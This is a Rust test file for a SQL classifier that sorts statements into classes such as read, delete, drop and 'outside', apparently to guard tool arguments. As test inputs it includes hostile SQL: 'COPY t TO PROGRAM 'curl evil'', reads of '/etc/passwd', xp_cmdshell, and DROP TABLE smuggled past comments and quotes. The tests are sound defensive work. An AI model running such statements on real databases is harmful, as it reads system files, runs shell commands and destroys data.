use serde_json::json;

use super::*;

/// The classes of SQL in a dialect, in the words of the configuration.
fn check(dialect: Dialect, sql: &str, expected: &str) {
    let found: Vec<&str> =
        classify(dialect, sql).into_iter().map(|class| &classes::words(class).0["sql_".len()..]).collect();
    let mut found = found;
    let mut expected: Vec<&str> = expected.split_whitespace().collect();
    found.sort_unstable();
    expected.sort_unstable();
    assert_eq!(found, expected, "{sql} in {dialect:?}");
}

fn check_in_all(sql: &str, expected: &str) {
    for dialect in [Dialect::Generic, Dialect::Postgresql, Dialect::Mysql, Dialect::Sqlite, Dialect::Mssql] {
        check(dialect, sql, expected);
    }
}

#[test]
fn statements_have_their_class_in_every_dialect() {
    check_in_all("SELECT 1", "read");
    check_in_all("select * from t where a = 'DROP TABLE x; --'", "read");
    check_in_all("WITH a AS (SELECT 1) SELECT * FROM a UNION SELECT * FROM b", "read");
    check_in_all("INSERT INTO t (a) VALUES (1), (2)", "insert");
    check_in_all("INSERT INTO t SELECT * FROM u", "insert read");
    check_in_all("UPDATE t SET a = 1 WHERE id = 5", "update");
    check_in_all("UPDATE t SET a = 1", "update update_without_where");
    check_in_all("DELETE FROM t WHERE id IN (SELECT id FROM u)", "delete read");
    check_in_all("DELETE FROM t", "delete delete_without_where");
    check_in_all("DELETE FROM t WHERE 1 = 1", "delete delete_without_where");
    check_in_all("DELETE FROM t WHERE 'a' = 'a' OR (2 > 1)", "delete delete_without_where");
    check_in_all("DROP TABLE t", "drop");
    check_in_all("DROP VIEW v", "drop");
    check_in_all("TRUNCATE TABLE t", "truncate");
    check_in_all("ALTER TABLE t ADD COLUMN a INT", "alter");
    check_in_all("CREATE TABLE t (a INT)", "create");
    check_in_all("GRANT SELECT ON t TO u", "grant");
    check_in_all("REVOKE SELECT ON t FROM u", "grant");
    check_in_all("", "");
    check_in_all(" ; ;", "");
}

#[test]
fn nothing_hides_a_statement() {
    check_in_all("SELECT 1; DELETE FROM t", "read delete delete_without_where");
    check_in_all("SELECT 1;/* a */dRoP/* b */taBLe t", "read drop");
    check_in_all("-- harmless\nDELETE FROM t -- WHERE id = 1", "delete delete_without_where");
    check_in_all("DELETE FROM t /* WHERE id = 1 */", "delete delete_without_where");
    check_in_all("DELETE FROM \"t\" WHERE id = 1", "delete");
    check_in_all("/* SELECT 1 */ DROP TABLE t", "drop");
    check_in_all("SELECT ';'; DROP TABLE t", "read drop");
    check_in_all("SELECT 'it''s'; DROP TABLE t", "read drop");
    check(
        Dialect::Postgresql,
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "read delete delete_without_where",
    );
    check(Dialect::Postgresql, "WITH u AS (UPDATE t SET a = 1 WHERE b = 2 RETURNING *) SELECT * FROM u", "read update");
    check(
        Dialect::Postgresql,
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) x",
        "read delete delete_without_where",
    );
    check(Dialect::Postgresql, "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2", "insert update");
    check(Dialect::Mysql, "DELETE FROM `t`", "delete delete_without_where");
    check(Dialect::Mssql, "DELETE FROM [t]", "delete delete_without_where");
}

#[test]
fn explaining_reads_unless_it_runs() {
    check(Dialect::Postgresql, "EXPLAIN DELETE FROM t", "read");
    check(Dialect::Postgresql, "EXPLAIN ANALYZE DELETE FROM t", "read delete delete_without_where");
    check(Dialect::Postgresql, "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t", "read delete delete_without_where");
    check(Dialect::Postgresql, "EXPLAIN (COSTS OFF) SELECT 1", "read");
    check(Dialect::Sqlite, "EXPLAIN QUERY PLAN SELECT 1", "read");
}

#[test]
fn what_reaches_outside_or_runs_code_is_no_read() {
    let postgres = |sql, expected| check(Dialect::Postgresql, sql, expected);
    postgres("COPY t TO PROGRAM 'curl evil'", "read outside");
    postgres("COPY t FROM '/etc/passwd'", "insert outside");
    postgres("COPY t TO STDOUT", "read");
    postgres("SELECT pg_read_file('/etc/passwd')", "read outside");
    postgres("SELECT * FROM dblink('host=a', 'DROP TABLE t') AS x(a int)", "read outside");
    postgres("SELECT pg_catalog.query_to_xml('DELETE FROM t', true, true, '')", "read call");
    postgres("SELECT set_config('a', 'b', false)", "read call");
    postgres("DO $$ BEGIN DELETE FROM t; END $$", "unparsable");
    postgres("CALL p()", "call");
    postgres("PREPARE x AS DELETE FROM t", "call delete delete_without_where");
    postgres("EXECUTE x", "call");
    postgres("SET role postgres", "setting");
    postgres("SELECT * INTO u FROM t", "read create");
    check(Dialect::Mysql, "SELECT * FROM t INTO OUTFILE '/tmp/x'", "unparsable");
    check(Dialect::Mysql, "SELECT load_file('/etc/passwd')", "read outside");
    check(Dialect::Sqlite, "ATTACH DATABASE 'x' AS y", "outside");
    check(Dialect::Sqlite, "PRAGMA writable_schema = 1", "setting");
    check(Dialect::Sqlite, "SELECT load_extension('x')", "read outside");
    check(Dialect::Mssql, "EXEC xp_cmdshell 'dir'", "call");
    check_in_all("COMMIT", "transaction");
}

#[test]
fn statements_of_sql_server_need_no_semicolon() {
    for (sql, expected) in [
        ("SELECT 1 DROP TABLE t", "drop"),
        ("SELECT a FROM t EXEC('DROP TABLE t')", "call"),
        ("SELECT 1 SHUTDOWN", "other"),
        ("SELECT a FROM t WHERE b = 1 DELETE t", "delete"),
    ] {
        let found = classify(Dialect::Mssql, sql);
        let words: Vec<&str> = found.iter().map(|&class| classes::words(class).0).collect();
        assert!(
            words.contains(&"sql_unparsable") || words.contains(&format!("sql_{expected}").as_str()),
            "{sql}: {words:?}"
        );
    }
}

#[test]
fn what_can_not_be_parsed_or_is_read_differently_is_a_class_of_its_own() {
    check_in_all("SELEC 1", "unparsable");
    check_in_all("SELECT 'a", "unparsable");
    check_in_all("hello there", "unparsable");
    check_in_all("SELECT 1\0; DROP TABLE t", "unparsable");
    check_in_all(&format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500)), "unparsable");
    check_in_all(&format!("SELECT 1{}", " + 1".repeat(20_000)), "unparsable");
    check_in_all(&format!("SELECT 1{}", " UNION SELECT 1".repeat(5_000)), "unparsable");
    check_in_all(&format!("SELECT '{}'", "a".repeat(LENGTH_LIMIT)), "unparsable");
    for sql in ["SELECT 1 /*! ; DROP TABLE t */", "DELETE FROM t /*!99999 WHERE id = 1 */", "SELECT 1 /*M! */"] {
        check(Dialect::Mysql, sql, "unparsable");
        check(Dialect::Generic, sql, "unparsable");
    }
    for sql in [
        "SELECT 'a\\'; DROP TABLE t; -- '",
        "SELECT 1 --1; DROP TABLE t",
        "SELECT 1 # 2\n",
        "/* /* */ SELECT 1 */",
        "SELECT $$a$$",
    ] {
        check(Dialect::Generic, sql, "unparsable");
    }
}

#[test]
fn a_long_list_and_many_conditions_can_be_parsed() {
    check_in_all(&format!("SELECT a FROM t WHERE id IN (1{})", ", 2".repeat(2_000)), "read");
    check_in_all(&format!("SELECT a FROM t WHERE id = 1{}", " OR id = 2".repeat(60)), "read");
    check_in_all(&format!("INSERT INTO t VALUES (1){}", ", (-2)".repeat(2_000)), "insert");
}

#[test]
fn a_small_stack_is_enough() {
    let deepest = [
        format!("SELECT 1{}", " + 1".repeat(245)),
        format!("SELECT {}1{}", "(".repeat(DEPTH_LIMIT), ")".repeat(DEPTH_LIMIT)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(120)),
        format!("SELECT {}", "(SELECT ".repeat(60)),
        format!("SELECT {} 1", "NOT ".repeat(200)),
        format!("SELECT {}1{}", "CASE WHEN 1 THEN ".repeat(60), " END".repeat(60)),
    ];
    let check = move || deepest.iter().for_each(|sql| drop(classify(Dialect::Postgresql, sql)));
    std::thread::Builder::new().stack_size(1 << 20).spawn(check).unwrap().join().unwrap();
}

fn rule(sql: Sql) -> Statements {
    Statements::new(&sql).unwrap()
}

/// Rules about the argument `q`.
fn of_q() -> Sql {
    Sql { arguments: vec!["/q".to_owned()], ..Sql::default() }
}

fn kinds(findings: &[Finding]) -> Vec<(&str, &str)> {
    findings.iter().map(|finding| (finding.place.as_str(), finding.kind.as_str())).collect()
}

#[test]
fn arguments_are_judged_where_they_are_named() {
    let arguments = vec!["/query".to_owned(), "/all".to_owned()];
    let rule = rule(Sql { arguments, ..Sql::default() });
    let check = |value, expected: &[(&str, &str)]| assert_eq!(kinds(&rule.find_json(&value)), expected);
    check(json!({"query": "SELECT 1", "note": "DROP TABLE t"}), &[]);
    check(json!({"query": "DROP TABLE t"}), &[("/query", "sql_drop")]);
    check(json!({"query": "SELECT 1", "all": ["SELECT 1", "DROP TABLE t"]}), &[("/all/1", "sql_drop")]);
    check(json!({"query": 5}), &[("/query", "sql_unparsable")]);
    check(json!({"sql": "SELECT 1"}), &[("", "sql_missing")]);
}

#[test]
fn classes_are_allowed_or_forbidden() {
    let allow = rule(Sql { allow: vec![SqlClass::Read, SqlClass::Delete], ..of_q() });
    assert_eq!(kinds(&allow.find("DELETE FROM t WHERE a = 1; SELECT 1")), []);
    assert_eq!(kinds(&allow.find("DELETE FROM t")), [("", "sql_delete_without_where")]);
    let forbid = rule(Sql { forbid: vec![SqlClass::Drop], ..of_q() });
    assert_eq!(kinds(&forbid.find("DELETE FROM t")), []);
    assert_eq!(kinds(&forbid.find("DROP TABLE t")), [("", "sql_drop")]);
    assert_eq!(kinds(&forbid.find("nonsense")), [("", "sql_unparsable")]);
    let both = Sql { allow: vec![SqlClass::Read], forbid: vec![SqlClass::Drop], ..of_q() };
    Statements::new(&both).unwrap_err();
    Statements::new(&Sql::default()).unwrap_err();
    Statements::new(&Sql { arguments: vec!["query".to_owned()], ..Sql::default() }).unwrap_err();
}

const WORDS: &[&str] = &[
    "SELECT", "DELETE", "UPDATE", "FROM", "WHERE", "t", "a", "1", "=", "(", ")", ",", ";", "'x'", "\"y\"", "`z`", "--",
    "\n", "/*", "*/", "WITH", "AS", "DROP", "TABLE", "INSERT", "INTO", "VALUES", "NOT", "CASE", "WHEN", "END",
    "EXISTS", "||", "::", "[", "]", "$$", "\\", "ß",
];

proptest::proptest! {
    #[test]
    fn whatever_is_said_has_classes(words in proptest::collection::vec(proptest::sample::select(WORDS), 0..60)) {
        let sql = words.join(" ");
        for dialect in [Dialect::Generic, Dialect::Postgresql, Dialect::Mysql, Dialect::Sqlite, Dialect::Mssql] {
            classify(dialect, &sql);
        }
    }

    #[test]
    fn two_statements_do_what_each_of_them_does(first in proptest::sample::select(STATEMENTS), second in proptest::sample::select(STATEMENTS)) {
        let together = classify(Dialect::Postgresql, &format!("{first}; {second}"));
        let apart: BTreeSet<SqlClass> = classify(Dialect::Postgresql, first).union(&classify(Dialect::Postgresql, second)).copied().collect();
        proptest::prop_assert_eq!(together, apart);
    }
}

const STATEMENTS: &[&str] = &[
    "SELECT * FROM a WHERE b = ';'",
    "INSERT INTO a SELECT * FROM b",
    "UPDATE a SET b = 1",
    "DELETE FROM a WHERE b = 1",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "DROP TABLE a /* gone */",
    "TRUNCATE a",
    "GRANT SELECT ON a TO b",
    "EXPLAIN ANALYZE DELETE FROM a",
    "COPY a TO PROGRAM 'cat'",
    "SET a = 1",
];
